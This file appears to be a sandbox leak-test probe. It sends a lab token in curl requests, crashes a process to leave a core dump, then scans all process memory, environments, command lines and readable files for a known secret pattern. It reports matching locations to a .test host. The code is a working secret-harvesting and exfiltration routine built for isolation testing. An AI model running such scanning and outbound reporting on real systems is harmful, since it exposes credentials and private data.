"""scan.py: uses a credential in every way there is, crashes one process with a core dump in the working directory, then
looks for the secret wherever a program in the box can read: memory of every process, environments, command lines, files.
What it finds is told to second.test as `found=…`.

The secret's form is known, and stands nowhere in this program as it is.
"""
import os
import re
import resource
import subprocess

import net

FORM = re.compile(rb"s3cr3t" + rb"[0-9]{5}" + rb"Qx8Lm2Vt9Kw4Zr")
LARGEST = 64 << 20
# What is the machine's alone, and large.
SKIPPED = {"/proc", "/sys", "/usr", "/bin", "/sbin", "/lib", "/lib64"}


def use():
    """Requests that carry it, and answers that say it back."""
    token = os.environ.get("LAB_TOKEN", "")
    for url in ("https://api.test/reflect", "https://basic.api.test/reflect?in=header", "https://query.api.test/reflect"):
        subprocess.run(["curl", "-sSi", "--max-time", "20", url], check=False, capture_output=True, timeout=30)
    subprocess.run(
        ["curl", "-sSi", "--max-time", "20", "-H", f"Authorization: Bearer {token}", "https://swap.api.test/reflect"],
        check=False,
        capture_output=True,
        timeout=30,
    )


def crash():
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
    if os.fork() == 0:
        os.abort()
    os.wait()


def in_memory(process):
    with open(f"/proc/{process}/maps", encoding="utf-8") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            bounds, rights = line.split()[:2]
            start, end = (int(one, 16) for one in bounds.split("-"))
            if "r" not in rights or end - start > LARGEST or "[v" in line:
                continue
            try:
                memory.seek(start)
                yield memory.read(end - start)
            except OSError:
                pass


def processes():
    for process in sorted(int(one) for one in os.listdir("/proc") if one.isdigit()):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{process}/{name}", "rb") as file:
                    yield f"{name}-{process}", file.read()
            except OSError:
                pass
        try:
            for part in in_memory(process):
                yield f"memory-{process}", part
        except OSError:
            pass


def files():
    for folder, folders, names in os.walk("/"):
        folders[:] = [one for one in folders if os.path.join(folder, one) not in SKIPPED]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) <= LARGEST and not path.endswith("/cargo"):
                    with open(path, "rb") as file:
                        yield path, file.read()
            except OSError:
                pass


def tell(where):
    safe = re.sub(r"[^A-Za-z0-9_.-]", "_", where)
    subprocess.run(
        ["curl", "-sS", "-o", "/dev/null", "--max-time", "20", f"https://second.test/?found={safe}"],
        check=False,
        timeout=30,
    )


def main(_arguments):
    use()
    crash()
    looked = found = 0
    for source in (processes(), files()):
        for where, data in source:
            looked += 1
            # Its own pattern is no secret: what matches is.
            if FORM.search(data):
                found += 1
                tell(where)
                if found == 5:
                    return 1
    print(f"looked at {looked}, found {found}")
    # A probe that could look at nothing proves nothing.
    return 1 if found or looked < 20 else 0


net.run(main)
